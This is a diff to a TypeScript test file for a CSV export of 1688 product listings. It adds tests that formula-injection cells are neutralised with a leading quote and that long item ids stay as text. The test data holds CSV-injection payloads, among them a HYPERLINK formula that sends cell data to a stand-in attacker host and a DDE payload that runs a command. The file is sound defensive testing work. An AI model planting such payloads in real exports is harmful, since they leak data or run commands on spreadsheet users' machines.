@@ -40,7 +40,6 @@ describe("productsToCsv", () => {
 			'连衣裙, 夏季 "新款"',
 			"line one\nline two",
 			"emoji 👗 and ，full-width comma",
-			"=SUM(A1)",
 		];
 		const csv = productsToCsv(tricky.map((title, i) => ({ ...base, itemId: String(i + 1), title })));
 		expect(csv.startsWith("\uFEFF")).toBe(true);
@@ -56,5 +55,34 @@ describe("productsToCsv", () => {
 			ships_from: "浙江 台州市",
 			repurchase_rate: "60",
 		});
+	});
+
+	it("neutralises cells a spreadsheet would run as a formula, per OWASP's CSV injection advice", () => {
+		const attacks = [
+			"=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
+			"+1+cmd|' /C calc'!A0",
+			"-2+3",
+			"@SUM(1,1)",
+			"\t=1+1",
+			"\r=1+1",
+			"＝1+1",
+		];
+		const csv = productsToCsv(
+			attacks.map((title, i) => ({ ...base, itemId: String(i + 1), title, shop: { ...base.shop, name: title } })),
+		);
+		const rows = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
+		expect(rows.map((r) => r.title)).toEqual(attacks.map((title) => `'${title}`));
+		expect(rows.map((r) => r.shop)).toEqual(attacks.map((title) => `'${title}`));
+		// Numbers stay numbers, and text that only contains the characters further in is left alone.
+		expect(rows[0]).toMatchObject({ price: "4.5", moq: "2", url: "https://detail.1688.com/offer/1.html" });
+		const plain = parse(productsToCsv([{ ...base, title: "a=b, c+d @ e - f" }]), { bom: true, columns: true });
+		expect((plain as Record<string, string>[])[0]?.title).toBe("a=b, c+d @ e - f");
+	});
+
+	it("keeps 1688's 12-digit item ids as text, so spreadsheets do not show 6.98E+11", () => {
+		const csv = productsToCsv([{ ...base, itemId: "698123456789" }]);
+		const rows = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
+		expect(rows[0]?.item_id).toBe("'698123456789");
+		expect(csv).not.toMatch(/\r\n698123456789,/);
 	});
 });
